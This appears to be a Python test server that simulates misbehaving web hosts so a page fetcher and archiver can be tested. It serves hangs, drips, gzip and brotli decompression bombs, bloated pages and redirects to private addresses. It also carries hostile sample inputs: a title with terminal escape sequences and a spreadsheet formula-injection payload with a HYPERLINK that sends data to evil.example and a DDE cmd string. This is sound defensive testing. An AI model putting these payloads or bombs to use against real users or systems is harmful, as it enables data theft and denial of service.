"""A real HTTP server on 127.0.0.1 with one route per misbehaviour (scrapy keeps such a catalogue).

Written on raw sockets so a route can do what no framework allows: drop the
connection mid-body, never answer, drip bytes, lie about lengths. It also
answers proxy-style requests ("GET http://any.host/path"), so tests and the
benchmark can give it any host name through the proxy setting.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import random
import socket
import socketserver
import ssl
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any
from urllib.parse import parse_qs, urlsplit

import brotlicffi as brotli

from tests.wallsite import SOCIAL_HOSTS, social_route

ARTICLE = (
    "Mishustin said on September 3 that the governments of Russia and Belarus had made progress on the "
    "Union State. The prime ministers discussed a common cabinet of ministers, a single tax code, "
    "unified energy markets and the harmonisation of customs rules. Lukashenko thanked the Kremlin for "
    "its support and said that the remaining questions would be settled at his meeting with Putin in "
    "Moscow. Analysts noted that the Belarusian opposition rejected any agreement signed by Lukashenko "
    "as illegitimate, and that protests continued in Minsk for the fourth week in a row. "
)
OTHER_ARTICLE = (
    "The ministry of agriculture announced record grain harvests in the southern regions this autumn. "
    "Farmers reported yields well above the five year average, helped by a wet spring and a dry summer. "
    "Exports of wheat are expected to grow, and the government plans new subsidies for storage facilities "
    "and rail transport to the Black Sea ports. Prices on the domestic market fell by several percent. "
)


def page(title: str, body: str, extra: str = "", lang: str = "en", charset: str | None = None) -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    return (
        f"<!DOCTYPE html><html lang='{lang}'><head>{meta}<title>{title}</title></head><body>"
        f"<nav><a href='/'>Home</a> <a href='/news'>News</a></nav>"
        f"<main><article><h1>{title}</h1>"
        + "".join(f"<p>{p}</p>" for p in body.split(". ") if p)
        + f"</article></main>{extra}<footer>Copyright 2020 Example News</footer></body></html>"
    )


def minimal_pdf(text: str) -> bytes:
    """A one-page PDF whose text pypdf can extract."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


@dataclass
class Request:
    method: str
    target: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]
    host: str
    body: bytes = b""  # a POST's body (Content-Length), for routes that read it
    at: float = field(default_factory=time.monotonic)  # when its head arrived (spacing, order)


@dataclass
class Server:
    """State shared by the routes, and what the tests read back."""

    port: int = 0
    scheme: str = "http"
    hits: Counter[str] = field(default_factory=Counter)
    requests: list[Request] = field(default_factory=list)
    # Test-controlled content: path -> text of the article served at /page/NAME.
    pages: dict[str, str] = field(default_factory=dict)
    # The fake web archive: "captures" (url -> list of Capture) and "mode" (None, "down", "429-once").
    archive: dict[str, Any] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def base(self) -> str:
        return f"{self.scheme}://127.0.0.1:{self.port}"

    def url(self, path: str) -> str:
        return self.base + path


def _response(
    status: int, body: bytes = b"", headers: list[tuple[str, str]] | None = None, reason: str | None = None
) -> bytes:
    reasons = {
        200: "OK",
        301: "Moved Permanently",
        302: "Found",
        304: "Not Modified",
        401: "Unauthorized",
        403: "Forbidden",
        404: "Not Found",
        410: "Gone",
        429: "Too Many Requests",
        451: "Unavailable",
        500: "Internal Server Error",
        502: "Bad Gateway",
        503: "Service Unavailable",
    }
    head = [f"HTTP/1.1 {status} {reason or reasons.get(status, 'Status')}"]
    all_headers = list(headers or [])
    if not any(k.lower() == "content-length" for k, _ in all_headers) and not any(
        k.lower() == "transfer-encoding" for k, _ in all_headers
    ):
        all_headers.append(("Content-Length", str(len(body))))
    all_headers.append(("Connection", "close"))
    head += [f"{k}: {v}" for k, v in all_headers]
    return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body


def html(text: str, status: int = 200, extra_headers: list[tuple[str, str]] | None = None) -> bytes:
    return _response(
        status, text.encode("utf-8"), [("Content-Type", "text/html; charset=utf-8"), *(extra_headers or [])]
    )


Route = Callable[[Server, Request, socket.socket], bytes | None]
ROUTES: dict[str, Route] = {}


def route(prefix: str) -> Callable[[Route], Route]:
    def register(func: Route) -> Route:
        ROUTES[prefix] = func
        return func

    return register


@route("/")
def home(server: Server, request: Request, conn: socket.socket) -> bytes:
    return html(page("Example News", "Welcome to Example News. Latest headlines from the region. Subscribe now. "))


@route("/article")
def article(server: Server, request: Request, conn: socket.socket) -> bytes:
    body = page("Union State talks", ARTICLE)
    etag = '"' + hashlib.sha1(body.encode()).hexdigest()[:16] + '"'
    if request.headers.get("if-none-match") == etag:
        return _response(304, headers=[("ETag", etag)])
    return html(body, extra_headers=[("ETag", etag), ("Last-Modified", "Thu, 03 Sep 2020 10:00:00 GMT")])


@route("/raw/")
def raw(server: Server, request: Request, conn: socket.socket) -> bytes:
    """Test-controlled bytes: server.archive["raw"][name] = (content type, body); an ETag and a
    Last-Modified made from the body, 304 when asked with either."""
    found = server.archive.get("raw", {}).get(request.path.removeprefix("/raw/"))
    if found is None:
        return html(page("Not found", "No such page. "), 404)
    content_type, body = found
    etag = '"' + hashlib.sha1(body).hexdigest()[:16] + '"'
    stamp = "Thu, 03 Sep 2020 10:00:00 GMT"
    asked = request.headers.get("if-none-match")
    if asked == etag or (asked is None and request.headers.get("if-modified-since") == stamp):  # RFC 9110
        return _response(304, headers=[("ETag", etag)])
    return _response(200, body, [("Content-Type", content_type), ("ETag", etag), ("Last-Modified", stamp)])


@route("/modified")
def modified(server: Server, request: Request, conn: socket.socket) -> bytes:
    """The article with a Last-Modified and no ETag: 304 when asked If-Modified-Since that date."""
    stamp = "Thu, 03 Sep 2020 10:00:00 GMT"
    if request.headers.get("if-modified-since") == stamp:
        return _response(304, headers=[("Last-Modified", stamp)])
    return html(page("Union State talks", ARTICLE), extra_headers=[("Last-Modified", stamp)])


@route("/agent")
def agent(server: Server, request: Request, conn: socket.socket) -> bytes:
    """The article, its title naming the User-Agent that asked."""
    return html(page("Asked by " + request.headers.get("user-agent", "nobody"), ARTICLE))


@route("/plain-article")
def plain_article(server: Server, request: Request, conn: socket.socket) -> bytes:
    """The same article every time, with no validators: the rerun sees an identical payload."""
    return html(page("Union State talks", ARTICLE))


@route("/rotating")
def rotating(server: Server, request: Request, conn: socket.socket) -> bytes:
    """The same article with ads, a clock and counters that change on every request."""
    ad = random.choice(["Buy a car today", "Cheap flights to Minsk", "New phones on sale", "Bank loans at 3%"])
    extra = (
        f"<aside class='ad'>{ad} {random.randint(1, 10**6)}</aside>"
        f"<div class='meta'>Updated {time.time()} | {random.randint(1, 9999)} views | "
        f"{random.randint(1, 500)} comments</div>"
    )
    return html(page("Union State talks", ARTICLE, extra=extra))


@route("/page/")
def controlled(server: Server, request: Request, conn: socket.socket) -> bytes:
    moved = server.archive.get("redirects", {}).get(request.path)
    if moved:  # a test moved this page (to its section, to a new address)
        return _response(301, b"", [("Location", moved)])
    name = request.path.removeprefix("/page/")
    text = server.pages.get(name)
    if text is None:
        return html(page("Not found", "The page you requested was not found"), status=404)
    return html(page(name, text))


@route("/status/")
def status(server: Server, request: Request, conn: socket.socket) -> bytes:
    last = request.path.rsplit("/", 1)[1]
    code = int(last) if last.isdigit() and 100 <= int(last) < 600 else 404
    headers = [("Retry-After", request.query["retry_after"][0])] if "retry_after" in request.query else []
    return html(page(f"Status {code}", f"This is status {code}. "), status=code, extra_headers=headers)


@route("/redirect/")
def redirect_chain(server: Server, request: Request, conn: socket.socket) -> bytes:
    last = request.path.rsplit("/", 1)[1]
    if not last.isdigit():
        return html(page("Not found", "No such page. "), 404)
    n = int(last)
    target = "/article" if n <= 1 else f"/redirect/{n - 1}"
    return _response(302, b"moved", [("Location", target)])


@route("/moved")
def moved(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(301, b"", [("Location", "/article")])


@route("/loop/")
def loop(server: Server, request: Request, conn: socket.socket) -> bytes:
    other = "/loop/b" if request.path.endswith("/a") else "/loop/a"
    return _response(302, b"", [("Location", other)])


@route("/to-home")
def to_home(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(301, b"", [("Location", "/")])


@route("/to-private")
def to_private(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(302, b"", [("Location", f"http://127.0.0.1:{server.port}/article")])


@route("/to-private-decimal")
def to_private_decimal(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(302, b"", [("Location", f"http://2130706433:{server.port}/article")])


@route("/to-mailto")
def to_mailto(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(302, b"", [("Location", "mailto:someone@example.com")])


@route("/cookie-gate")
def cookie_gate(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A consent wall: sets a cookie and sends the reader on; the article needs that cookie."""
    return _response(302, b"", [("Set-Cookie", "consent=yes; Path=/"), ("Location", "/behind-gate")])


@route("/behind-gate")
def behind_gate(server: Server, request: Request, conn: socket.socket) -> bytes:
    if "consent=yes" not in request.headers.get("cookie", ""):
        return html(page("Consent needed", "Accept our cookies to read this article. "), status=403)
    return html(page("Union State talks", ARTICLE))


@route("/soft404")
def soft404(server: Server, request: Request, conn: socket.socket) -> bytes:
    return html(page("Page not found", "Sorry, the page you are looking for was not found. "))


@route("/hang")
def hang(server: Server, request: Request, conn: socket.socket) -> None:
    """Accept, read the request, and never answer (until the test ends)."""
    time.sleep(30)
    return None


@route("/drip")
def drip(server: Server, request: Request, conn: socket.socket) -> None:
    """Headers at once, then a byte every 0.2 s for ever: only a total time-out ends it."""
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100000\r\n\r\n")
    for _ in range(300):
        conn.sendall(b"x")
        time.sleep(0.2)
    return None


@route("/drop")
def drop(server: Server, request: Request, conn: socket.socket) -> None:
    """Promise 10,000 bytes, send 100, hang up."""
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 10000\r\n\r\n" + b"<p>x</p>" * 12)
    return None


@route("/garbage")
def garbage(server: Server, request: Request, conn: socket.socket) -> None:
    conn.sendall(b"SSH-2.0-OpenSSH_9.0\r\n\x00\x01\x02 not http at all\r\n\r\n")
    return None


@route("/slow")
def slow(server: Server, request: Request, conn: socket.socket) -> bytes:
    seconds = float(request.query.get("s", ["0.5"])[0])
    time.sleep(seconds)
    return html(page("Slow article " + request.query.get("id", [""])[0], ARTICLE))


@route("/gzip")
def gzipped(server: Server, request: Request, conn: socket.socket) -> bytes:
    body = gzip.compress(page("Union State talks", ARTICLE).encode())
    return _response(200, body, [("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "gzip")])


@route("/brotli")
def brotlied(server: Server, request: Request, conn: socket.socket) -> bytes:
    body = brotli.compress(page("Union State talks", ARTICLE).encode())
    return _response(200, body, [("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "br")])


@route("/gzip-then-br")
def gzip_then_br(server: Server, request: Request, conn: socket.socket) -> bytes:
    """Two codings, named on two header lines (one list, RFC 9110): undone in reverse order."""
    body = brotli.compress(gzip.compress(page("Union State talks", ARTICLE).encode()))
    headers = [("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "gzip"), ("Content-Encoding", "br")]
    return _response(200, body, headers)


@route("/deflate-raw")
def deflate_raw(server: Server, request: Request, conn: socket.socket) -> bytes:
    compressor = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    body = compressor.compress(page("Union State talks", ARTICLE).encode()) + compressor.flush()
    return _response(200, body, [("Content-Type", "text/html"), ("Content-Encoding", "deflate")])


@route("/chunked")
def chunked(server: Server, request: Request, conn: socket.socket) -> bytes:
    body = page("Union State talks", ARTICLE).encode()
    chunks = (
        b"".join(
            f"{len(body[i : i + 100]):x}\r\n".encode() + body[i : i + 100] + b"\r\n" for i in range(0, len(body), 100)
        )
        + b"0\r\n\r\n"
    )
    return _response(200, chunks, [("Content-Type", "text/html"), ("Transfer-Encoding", "chunked")])


_BOMB: dict[int, bytes] = {}


@route("/gzip-bomb")
def gzip_bomb(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A few hundred kilobytes that inflate to 200 MB."""
    if 200 not in _BOMB:
        compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
        chunk = b"\0" * (1 << 20)
        _BOMB[200] = b"".join(compressor.compress(chunk) for _ in range(200)) + compressor.flush()
    return _response(200, _BOMB[200], [("Content-Type", "text/html"), ("Content-Encoding", "gzip")])


@route("/brotli-bomb")
def brotli_bomb(server: Server, request: Request, conn: socket.socket) -> bytes:
    if -1 not in _BOMB:
        _BOMB[-1] = brotli.compress(b"\0" * (200 << 20), quality=5)
    return _response(200, _BOMB[-1], [("Content-Type", "text/html"), ("Content-Encoding", "br")])


@route("/huge")
def huge(server: Server, request: Request, conn: socket.socket) -> None:
    """Announces 200 MB and starts sending."""
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 209715200\r\n\r\n")
    try:
        for _ in range(200):
            conn.sendall(b"\0" * (1 << 20))
    except OSError:
        pass
    return None


@route("/huge-chunked")
def huge_chunked(server: Server, request: Request, conn: socket.socket) -> None:
    """No length announced; streams until the client gives up."""
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n")
    block = b"<p>" + b"a" * 65530 + b"</p>"
    try:
        for _ in range(3000):
            conn.sendall(f"{len(block):x}\r\n".encode() + block + b"\r\n")
    except OSError:
        pass
    return None


@route("/cp1251")
def cp1251(server: Server, request: Request, conn: socket.socket) -> bytes:
    text = (
        "Мишустин заявил о прогрессе в вопросе будущего союзного государства. Премьер-министры обсудили "
        "единый кабинет министров, общий налоговый кодекс и объединение энергетических рынков. "
    ) * 3
    body = page("Союзное государство", text, lang="ru").encode("cp1251")
    return _response(200, body, [("Content-Type", "text/html")])


@route("/pdf")
def pdf(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(200, minimal_pdf("Union State agreement signed in Minsk"), [("Content-Type", "application/pdf")])


@route("/json")
def json_route(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(
        200,
        b'{"title": "Union State", "body": ["Progress was made", "on taxes"]}',
        [("Content-Type", "application/json")],
    )


@route("/image")
def image(server: Server, request: Request, conn: socket.socket) -> bytes:
    return _response(200, b"\x89PNG\r\n\x1a\n" + b"\0" * 100, [("Content-Type", "image/png")])


@route("/flaky")
def flaky(server: Server, request: Request, conn: socket.socket) -> bytes:
    """503 on the first request, then the article."""
    if server.hits["/flaky"] <= 1:
        return html(page("Busy", "Try later. "), status=503, extra_headers=[("Retry-After", "0")])
    return html(page("Union State talks", ARTICLE))


@route("/too-many")
def too_many(server: Server, request: Request, conn: socket.socket) -> bytes:
    """429 with Retry-After: 1 once, then the article."""
    if server.hits["/too-many"] <= 1:
        return html(page("Slow down", "Too many requests. "), status=429, extra_headers=[("Retry-After", "1")])
    return html(page("Union State talks", ARTICLE))


@route("/telegram/")
def telegram(server: Server, request: Request, conn: socket.socket) -> bytes:
    post = request.path.removeprefix("/telegram/")
    body = (
        "<!DOCTYPE html><html><head><title>Telegram: Contact @nexta_tv</title>"
        f"<meta property='og:description' content='Let them negotiate with the Kremlin, the people decide. {post}'>"
        "</head><body><div class='tgme_page'><div class='tgme_page_title'>NEXTA</div>"
        "<a class='tgme_action_button_new' href='tg://resolve'>View in Telegram</a>"
        "<div class='tgme_page_description'>If you have Telegram, you can view this post right away.</div>"
        "</div></body></html>"
    )
    return html(body)


def _find_route(path: str) -> Route | None:
    if path in ROUTES:
        return ROUTES[path]
    candidates = [p for p in ROUTES if p.endswith("/") and p != "/" and path.startswith(p)]
    return ROUTES[max(candidates, key=len)] if candidates else None


class _Handler(socketserver.BaseRequestHandler):
    server: _TCPServer

    def handle(self) -> None:
        conn: socket.socket = self.request
        conn.settimeout(10)
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    return
                data += chunk
        except OSError:
            return
        head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1")
        lines = head.split("\r\n")
        try:
            method, target, _ = lines[0].split(" ", 2)
        except ValueError:
            return
        headers = {}
        for line in lines[1:]:
            key, _, value = line.partition(":")
            headers[key.strip().lower()] = value.strip()
        body = data.split(b"\r\n\r\n", 1)[1]
        length = int(headers.get("content-length", "0") or 0) if headers.get("content-length", "").isdigit() else 0
        try:
            while len(body) < min(length, 16 << 20):
                chunk = conn.recv(65536)
                if not chunk:
                    break
                body += chunk
        except OSError:
            return
        parts = urlsplit(target)  # absolute in proxy form, else origin form
        request = Request(
            method,
            target,
            parts.path or "/",
            parse_qs(parts.query),
            headers,
            parts.hostname or headers.get("host", ""),
            body,
        )
        state = self.server.state
        with state.lock:
            state.hits[request.path] += 1
            state.requests.append(request)
        handler = telegram_route if request.host in ("t.me", "telegram.me") else _find_route(request.path)
        if request.host in SOCIAL_HOSTS:
            handler = social_route
        try:
            answer = handler(state, request, conn) if handler else html(page("Not found", "No such page. "), 404)
            if answer:
                conn.sendall(answer)
        except OSError:
            pass


class _TCPServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 128  # socketserver's 5 makes a sixth simultaneous connect wait a second for a SYN resend
    state: Server
    ssl_context: ssl.SSLContext | None = None

    def get_request(self) -> tuple[socket.socket, object]:
        conn, address = super().get_request()
        if self.ssl_context is not None:
            try:
                conn = self.ssl_context.wrap_socket(conn, server_side=True)
            except (ssl.SSLError, OSError):
                conn.close()
                raise
        return conn, address


def start(ssl_context: ssl.SSLContext | None = None) -> tuple[Server, Callable[[], None]]:
    """Start a server on a free port of 127.0.0.1; returns its state and a stop function."""
    tcp = _TCPServer(("127.0.0.1", 0), _Handler)
    tcp.ssl_context = ssl_context
    state = Server(port=tcp.server_address[1], scheme="https" if ssl_context else "http")
    tcp.state = state
    thread = threading.Thread(target=tcp.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()

    def stop() -> None:
        tcp.shutdown()
        tcp.server_close()

    return state, stop


if __name__ == "__main__":  # a manual look: python -m tests.server
    running, _ = start()
    print(f"serving on {running.base}")
    threading.Event().wait()


# ----- a small synthetic web for nightly runs: content the tests change between runs ------------


@route("/soft/")
def soft_site(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A site that answers 200 with a "page not found" message for what it does not have."""
    text = server.pages.get(request.path)
    if text is None:
        return html(
            page("Страница не найдена", "К сожалению, запрашиваемая страница не найдена. Вернитесь на главную. ")
        )
    return html(page("Article", text))


@route("/quiet/")
def quiet_site(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A site that answers 200 with its generic front matter, no "not found" wording, for unknown paths."""
    text = server.pages.get(request.path)
    if text is None:
        return html(page("Example Daily", "Welcome to Example Daily. Read our latest stories and opinion. "))
    return html(page("Article", text))


@route("/home-redirect/")
def home_redirect(server: Server, request: Request, conn: socket.socket) -> bytes:
    text = server.pages.get(request.path)
    if text is None:
        return _response(301, b"", [("Location", "/")])
    return html(page("Article", text))


@route("/news/")
def news_section(server: Server, request: Request, conn: socket.socket) -> bytes:
    if request.path == "/news/":
        return html(page("News", "All the news of the day in one place. Politics. Economy. Sport. "))
    text = server.pages.get(request.path)
    if text is None:
        return _response(302, b"", [("Location", "/news/")])
    return html(page("Article", text))


@route("/parked")
def parked(server: Server, request: Request, conn: socket.socket) -> bytes:
    if server.pages.get("/parked") is not None:
        return html(page("Article", server.pages["/parked"]))
    return html(
        "<html><head><title>example-news.com</title></head><body><h1>example-news.com</h1>"
        "<p>This domain is for sale! Buy this domain today.</p><p>Related searches: news, politics</p>"
        "</body></html>"
    )


@route("/challenge")
def challenge(server: Server, request: Request, conn: socket.socket) -> bytes:
    return html(
        "<html><head><title>Just a moment...</title></head><body><h1>Checking your browser before "
        "accessing the site.</h1><p>Enable JavaScript and cookies to continue</p></body></html>",
        status=503,
        extra_headers=[("cf-mitigated", "challenge")],
    )


@route("/geo")
def geo(server: Server, request: Request, conn: socket.socket) -> bytes:
    return html(page("Unavailable", "This content is not available in your country. "))


@route("/hang-once")
def hang_once(server: Server, request: Request, conn: socket.socket) -> bytes | None:
    """Never answers while the test says so (a one-off time-out), then the article."""
    if server.pages.get("/hang-once") == "hang":
        time.sleep(5)
        return None
    return html(page("Union State talks", ARTICLE))


def telegram_page(channel: str, post: str, text: str | None) -> str:
    """t.me/CHANNEL/N as Telegram serves it: the post in og:description, or the channel's own page."""
    description = text if text is not None else f"You can view and join @{channel} right away."
    widget = (
        (
            f"<div class='tgme_widget_message' data-post='{channel}/{post}'>"
            f"<div class='tgme_widget_message_text'>{text}</div></div>"
        )
        if text is not None
        else ""
    )
    return (
        f"<!DOCTYPE html><html><head><title>Telegram: Contact @{channel}</title>"
        f"<meta property='og:title' content='{channel}'><meta property='og:description' content='{description}'>"
        f"</head><body><div class='tgme_page'><div class='tgme_page_title'>{channel}</div>"
        f"<div class='tgme_page_extra'>1 234 567 subscribers</div>{widget}"
        "<a class='tgme_action_button_new' href='tg://resolve'>View in Telegram</a></div></body></html>"
    )


def telegram_route(server: Server, request: Request, conn: socket.socket) -> bytes:
    parts = [p for p in request.path.split("/") if p]
    channel, post = [*parts, "", ""][:2]
    return html(telegram_page(channel, post, server.pages.get(f"t.me{request.path}")))


# ----- a fake public web archive: Wayback's CDX API and raw (id_) captures, and a Memento TimeMap -------


@dataclass
class Capture:
    stamp: str  # 14 digits
    status: int
    html: str


def _archive_state(server: Server) -> dict[str, Any]:
    return server.archive


def archive_capture(server: Server, url: str, stamp: str, html_text: str, status: int = 200) -> None:
    """Let the fake archive hold a capture of url taken at stamp."""
    captures = _archive_state(server).setdefault("captures", {})
    captures.setdefault(url, []).append(Capture(stamp, status, html_text))


def _archive_refusal(server: Server) -> bytes | None:
    state = _archive_state(server)
    mode = state.get("mode")
    if mode == "down":
        return html(page("Down", "Service unavailable. "), status=503)
    if mode == "429-once":
        state["mode"] = None
        return html(page("Slow down", "Too many requests. "), status=429, extra_headers=[("Retry-After", "1")])
    return None


def _captures(server: Server, url: str) -> list[Capture]:
    captures: list[Capture] = _archive_state(server).get("captures", {}).get(url, [])
    return sorted(captures, key=lambda c: c.stamp)


@route("/cdx/search/cdx")
def cdx(server: Server, request: Request, conn: socket.socket) -> bytes:
    refusal = _archive_refusal(server)
    if refusal:
        return refusal
    query = {k: v[0] for k, v in request.query.items()}
    rows = _captures(server, query["url"])
    if query.get("filter", "").startswith("statuscode:2"):
        rows = [c for c in rows if 200 <= c.status < 300]
    if "to" in query:
        rows = [c for c in rows if c.stamp <= query["to"]]
    if "from" in query:
        rows = [c for c in rows if c.stamp >= query["from"]]
    limit = int(query.get("limit", "0") or 0)
    if limit < 0:
        rows = rows[limit:]
    elif limit > 0:
        rows = rows[:limit]
    table = [["timestamp", "original", "statuscode", "mimetype"]] + [
        [c.stamp, query["url"], str(c.status), "text/html"] for c in rows
    ]
    body = json.dumps(table if rows else []).encode()
    return _response(200, body, [("Content-Type", "application/json")])


@route("/web/")
def wayback_raw(server: Server, request: Request, conn: socket.socket) -> bytes:
    refusal = _archive_refusal(server)
    if refusal:
        return refusal
    rest = request.target.split("/web/", 1)[1]
    stamp, _, original = rest.partition("/")
    if not stamp.endswith("id_"):
        return html(page("Replay", "A rewritten replay page with the archive's banner. "))
    for capture in _captures(server, original):
        if capture.stamp == stamp.removesuffix("id_"):
            return html(
                capture.html,
                status=capture.status,
                extra_headers=[("Memento-Datetime", capture.stamp), ("Link", f"<{original}>; rel=original")],
            )
    return html(page("Not in archive", "Wayback Machine has not archived that URL. "), status=404)


@route("/timemap/link/")
def timemap(server: Server, request: Request, conn: socket.socket) -> bytes:
    from email.utils import format_datetime

    original = request.target.split("/timemap/link/", 1)[1]
    rows = [c for c in _captures(server, "timemap:" + original)]
    if not rows:
        return _response(404, b"no mementos", [("Content-Type", "text/plain")])
    lines = [f'<{original}>; rel="original"']
    for c in rows:
        moment = datetime.strptime(c.stamp, "%Y%m%d%H%M%S").replace(tzinfo=UTC)
        lines.append(
            f'<{server.base}/other/{c.stamp}/{original}>; rel="memento"; '
            f'datetime="{format_datetime(moment, usegmt=True)}"'
        )
    return _response(200, ",\n".join(lines).encode(), [("Content-Type", "application/link-format")])


@route("/other/")
def other_archive_raw(server: Server, request: Request, conn: socket.socket) -> bytes:
    rest = request.target.split("/other/", 1)[1]
    stamp, _, original = rest.partition("/")
    for capture in _captures(server, "timemap:" + original):
        if capture.stamp == stamp.removesuffix("id_"):
            return html(capture.html, status=capture.status)
    return html(page("Not in archive", "No such memento. "), status=404)


@route("/save")
def save_page_now(server: Server, request: Request, conn: socket.socket) -> bytes:
    elsewhere = server.archive.get("save_redirect")
    if elsewhere:  # Save Page Now answering with a redirect to another origin
        return _response(302, b"", [("Location", elsewhere)])
    return _response(200, b'{"job_id": "spn2-test"}', [("Content-Type", "application/json")])


@route("/hook")
def hook(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A webhook (apprise's json://): records each message; answers hook_status (default 200)."""
    status = int(server.archive.get("hook_status", 200))
    if status == 200:
        server.archive.setdefault("hooks", []).append(json.loads(request.body or b"{}"))
    return _response(status, b"{}", [("Content-Type", "application/json")])


@route("/stacked-encoding")
def stacked_encoding(server: Server, request: Request, conn: socket.socket) -> bytes:
    """Content-Encoding: gzip, 8,000 times over (a 40 KB header): one decompressor each would fill memory."""
    body = gzip.compress(page("Stacked", ARTICLE).encode())
    return _response(200, body, [("Content-Type", "text/html"), ("Content-Encoding", ",".join(["gzip"] * 8000))])


@route("/escape-title")
def escape_title(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A soft "not found" page whose title carries terminal escape sequences."""
    title = "Page not found \x1b]0;PWNED\x1b\\\x1b[2J\x1b[31mred\x9b31m"
    return html(page(title, "Sorry, the page you requested was not found. "))


@route("/formula")
def formula(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A page whose title and text a spreadsheet would run as formulas."""
    title = '=HYPERLINK("https://evil.example/?x="&amp;A2,"Open source")'
    return html(page(title, "@SUM(1+1)*cmd|' /C calc'!A0 " + ARTICLE))


# ----- hostile servers: drips, bloated pages, broken encodings, a long Retry-After --------------------


@route("/drip-headers")
def drip_headers(server: Server, request: Request, conn: socket.socket) -> None:
    """The status line and headers a byte every 0.2 s, for ever: no read time-out ever fires."""
    for byte in b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nX-Padding: " + b"x" * 1000:
        conn.sendall(bytes([byte]))
        time.sleep(0.2)
    return None


_BLOATED: dict[str, bytes] = {}


@route("/bloated/")
def bloated(server: Server, request: Request, conn: socket.socket) -> bytes:
    """Pages that are hazards to parse: 45 MB of HTML, 200,000 links, 100,000 nested elements."""
    kind = request.path.removeprefix("/bloated/")
    if kind not in _BLOATED:
        if kind == "huge-html":
            paragraph = "<p>" + "word " * 200 + "</p>\n"
            body = "<html><head><title>Huge</title></head><body><article>" + paragraph * 44_000
        elif kind == "links":
            body = "<html><body>" + "".join(f'<a href="/l{i}">link {i}</a>' for i in range(200_000))
        else:
            body = "<html><body>" + "<div>" * 100_000 + "deep text" + "</div>" * 100_000
        _BLOATED[kind] = (body + "</body></html>").encode()
    return _response(200, _BLOATED[kind], [("Content-Type", "text/html; charset=utf-8")])


@route("/sized")
def sized(server: Server, request: Request, conn: socket.socket) -> bytes:
    """An article of about ?kb= kilobytes of HTML."""
    size = int(request.query.get("kb", ["100"])[0]) * 1024
    paragraph = "<p>" + "word " * 200 + "</p>\n"
    body = "<html><head><title>Sized</title></head><body><article>" + paragraph * (size // len(paragraph) + 1)
    return _response(200, (body + "</article></body></html>").encode(), [("Content-Type", "text/html; charset=utf-8")])


@route("/gzip-broken")
def gzip_broken(server: Server, request: Request, conn: socket.socket) -> bytes:
    """Declares gzip, sends a gzip header and then garbage: a browser shows an error."""
    body = gzip.compress(page("Union State talks", ARTICLE).encode())[:20] + b"\xff\x00 not deflate at all " * 50
    return _response(200, body, [("Content-Type", "text/html; charset=utf-8"), ("Content-Encoding", "gzip")])


@route("/busy/")
def busy(server: Server, request: Request, conn: socket.socket) -> bytes:
    """429 with Retry-After: 3600 while server.pages["busy"] is set; else an article."""
    if server.pages.get("busy"):
        return html(page("Busy", "Come back in an hour. "), status=429, extra_headers=[("Retry-After", "3600")])
    return html(page("Union State talks", ARTICLE))


@route("/to-cyrillic")
def to_cyrillic(server: Server, request: Request, conn: socket.socket) -> bytes:
    """A redirect whose Location holds raw UTF-8 bytes, as many servers send it."""
    head = "HTTP/1.1 302 Found\r\nLocation: /page/статья\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    return head.encode("utf-8")
